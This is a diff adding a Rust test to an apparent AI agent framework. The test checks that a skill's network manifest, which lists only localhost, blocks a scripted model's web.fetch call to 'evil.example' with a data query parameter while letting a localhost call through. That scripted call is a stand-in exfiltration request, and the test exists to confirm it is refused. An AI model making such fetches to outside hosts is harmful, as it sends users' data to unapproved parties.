@@ -347,3 +347,59 @@ async fn skill_limits_cover_commands_every_path_later_skills_and_sub_agents() {
         )
     );
 }
+
+#[tokio::test]
+async fn a_skills_net_hosts_hold_the_urls_its_turn_fetches() {
+    let dir = tempfile::tempdir().unwrap();
+    let workspace = dir.path().to_path_buf();
+    skill_with(
+        &workspace,
+        "status",
+        json!({"tools": ["web.fetch"], "net": ["localhost"]}),
+    );
+    let skills = SkillsRuntime::with_environment(
+        Sources::new(&workspace.join("home"), &workspace),
+        Arc::new(FixedEnvironment::new("linux")),
+    );
+    let model = ScriptedModel::replies(
+        "m",
+        vec![
+            read_skill("t1", "status"),
+            call(
+                "t2",
+                "web.fetch",
+                json!({"url": "https://evil.example/?d=x"}),
+            ),
+            // Loopback: the fetch's own guard refuses it without any
+            // network, after the skill let it through.
+            call(
+                "t3",
+                "web.fetch",
+                json!({"url": "http://localhost:9/status"}),
+            ),
+            Message::assistant("Checked."),
+        ],
+    );
+    let h = Harness::in_dir(
+        dir,
+        vec![model.clone()],
+        Setup {
+            skills: Some(skills),
+            ..Setup::default()
+        },
+    )
+    .await;
+    let (result, _) = h.send(&key("cli:status"), "is the site up?").await;
+    assert_eq!(result.unwrap().reply, "Checked.");
+    let requests = model.requests();
+    let (refused, is_error) = tool_result(requests[2].messages.last().unwrap());
+    assert!(is_error);
+    assert_eq!(
+        refused,
+        "web.fetch was denied: skill 'status' may not reach the host 'evil.example': its manifest allows only the hosts 'localhost'"
+    );
+    // The listed host passes the skill; web.fetch's own guard speaks next.
+    let (fetched, _) = tool_result(requests[3].messages.last().unwrap());
+    assert!(!fetched.contains("skill 'status' may not"), "{fetched}");
+    assert!(fetched.contains("localhost"), "{fetched}");
+}
